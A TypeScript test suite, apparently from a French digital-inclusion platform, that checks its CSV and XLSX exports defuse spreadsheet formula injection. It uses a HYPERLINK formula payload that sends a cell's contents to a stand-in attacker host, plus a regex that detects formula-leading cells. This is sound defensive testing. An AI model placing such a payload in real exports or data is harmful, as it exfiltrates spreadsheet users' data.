import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { findCollectiviteByCode } from '../../src/modules/territoires/index.ts';
import { audit } from '../../src/platform/audit/journal.ts';
import { systemActor } from '../../src/platform/auth/policy.ts';
import { Client, createTestApp, type TestApp } from '../helpers/app.ts';
import { file, line } from '../helpers/ifn-fixtures.ts';

/**
 * CSV formula injection, through every CSV Relais writes: a place, an activity or an imported
 * row named like a spreadsheet formula must come out as text (a leading `'`), never as a
 * formula a spreadsheet would run. Numbers stay numbers.
 */

const FORMULA = '=HYPERLINK("https://attaquant.example/?v="&A1,"Cliquez ici")';
const NEUTRALISED = `'${FORMULA}`;

/** Every cell of a CSV text (BOM and delimiter as given). */
const cells = (text: string, delimiter = ',') =>
  (parse(text, { bom: true, delimiter, relax_column_count: true }) as string[][]).flat();

/** The CSV holds the neutralised formula and no cell a spreadsheet would run as one. */
function assertNeutralised(text: string, delimiter = ','): void {
  const all = cells(text, delimiter);
  assert.ok(all.includes(NEUTRALISED), 'the formula comes out as text');
  const runnable = all.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+([.,]\d+)?$/.test(c));
  assert.deepEqual(runnable, [], 'no cell starts like a formula');
}

describe('CSV exports neutralise spreadsheet formulas', () => {
  let t: TestApp;
  let admin: Client;
  let coordinator: Client;
  let helper: Client;
  let placeId = '';

  before(async () => {
    t = await createTestApp({ demo: true });
    admin = new Client(t.app);
    coordinator = new Client(t.app);
    helper = new Client(t.app);
    await admin.signIn('admin@demo.relais.example');
    await coordinator.signIn('coordination@demo.relais.example');
    await helper.signIn('mediation@demo.relais.example');
    // A published place whose name is a formula, west of Greenwich (a negative longitude).
    const place = await t.db.db
      .selectFrom('lieu')
      .select('id')
      .where('status', '=', 'publie')
      .orderBy('lmn_id')
      .limit(1)
      .executeTakeFirstOrThrow();
    placeId = place.id;
    await t.db.db
      .updateTable('lieu')
      .set({ nom: FORMULA, longitude: -3.5, telephone: ['+33180059880'] })
      .where('id', '=', placeId)
      .execute();
  });
  after(() => t.close());

  test('/api/v1/lieux.csv: the name as text, the longitude and phone as the standard wants', async () => {
    const res = await new Client(t.app).get('/api/v1/lieux.csv');
    assert.equal(res.statusCode, 200);
    assertNeutralised(res.body);
    const records = parse(res.body, { bom: true, columns: true }) as Record<string, string>[];
    const row = records.find((r) => r.nom === NEUTRALISED);
    assert.ok(row);
    assert.equal(row.longitude, '-3.5');
    assert.equal(row.telephone, '+33180059880');
  });

  test('/donnees/lieux-mediation-numerique.csv (open data harvested by data.gouv.fr)', async () => {
    await admin.get('/donnees');
    assert.equal((await admin.post('/admin/donnees/regenerer', {})).statusCode, 200);
    const res = await new Client(t.app).get('/donnees/lieux-mediation-numerique.csv');
    assert.equal(res.statusCode, 200);
    assertNeutralised(res.body);
    const row = (parse(res.body, { bom: true, columns: true }) as Record<string, string>[]).find(
      (r) => r.nom === NEUTRALISED,
    );
    assert.equal(row?.longitude, '-3.5');
  });

  test('the helper’s activity export: CSV neutralised, XLSX keeps the text as text', async () => {
    const mine = await t.db.db
      .selectFrom('activite')
      .innerJoin('app_user', 'app_user.id', 'activite.mediateur_id')
      .select('activite.id')
      .where('app_user.email', '=', 'mediation@demo.relais.example')
      .where('activite.type', '=', 'collectif')
      .limit(1)
      .executeTakeFirstOrThrow();
    await t.db.db.updateTable('activite').set({ titre: FORMULA }).where('id', '=', mine.id).execute();

    const csv = await helper.get('/activites/export.csv?type=collectif');
    assert.equal(csv.statusCode, 200);
    assertNeutralised(csv.body, ';');

    const xlsx = await helper.get('/activites/export.xlsx?type=collectif');
    assert.equal(xlsx.statusCode, 200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const found: ExcelJS.Cell[] = [];
    workbook.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.value === FORMULA) found.push(cell);
        assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `no formula cell (${cell.address})`);
      }),
    );
    assert.ok(found.length > 0, 'the title is in the workbook');
    for (const cell of found) assert.equal(cell.type, ExcelJS.ValueType.String);
  });

  test('the report of a places import (/admin/lieux/imports/…/rapport.csv)', async () => {
    const header = 'id,pivot,nom,commune,code_postal,adresse,date_maj,services';
    const rows = [
      `csv-ok,00000000000000,Espace numérique,Villeurbanne,69100,1 place Lazare-Goujon,2024-04-02,Aide aux démarches administratives`,
      `csv-bad,00000000000000,"${FORMULA.replace(/"/g, '""')}",Villeurbanne,6910,"${FORMULA.replace(/"/g, '""')}",2024-04-02,Nope`,
    ];
    await coordinator.get('/admin/lieux/import');
    const res = await coordinator.postMultipart(
      '/admin/lieux/import',
      { collectivite: String((await findCollectiviteByCode(t.db.db, '69266'))!.id) },
      { name: 'fichier', bytes: Buffer.from([header, ...rows].join('\n')), filename: 'lieux.csv' },
    );
    assert.equal(res.statusCode, 303, res.body);
    const report = await coordinator.get(`${res.headers.location}/rapport.csv`);
    assert.equal(report.statusCode, 200);
    assertNeutralised(report.body);
  });

  test('the report of a fragility index import (/admin/observatoire/ifn/rapport.csv)', async () => {
    await admin.get('/admin/observatoire/ifn');
    const res = await admin.postMultipart(
      '/admin/observatoire/ifn',
      { millesime: '2023' },
      {
        name: 'fichier',
        bytes: file(
          line('01001', 6),
          line('01002', 5, { name: FORMULA }),
          line('ZZZZZ', 4, { name: FORMULA }),
        ),
        filename: 'ifn.csv',
      },
    );
    assert.equal(res.statusCode, 303, res.body);
    const report = await admin.get('/admin/observatoire/ifn/rapport.csv?millesime=2023&niveau=commune');
    assert.equal(report.statusCode, 200);
    assertNeutralised(report.body);
  });

  test('the journal export (/admin/journal.csv)', async () => {
    await audit(t.db.db, {
      actor: systemActor(FORMULA),
      action: 'lieux.create',
      subject: { type: 'lieu', id: FORMULA },
      ip: '@127.0.0.1',
    });
    const res = await admin.get('/admin/journal.csv');
    assert.equal(res.statusCode, 200);
    assertNeutralised(res.body);
    assert.ok(cells(res.body).includes("'@127.0.0.1"));
  });
});
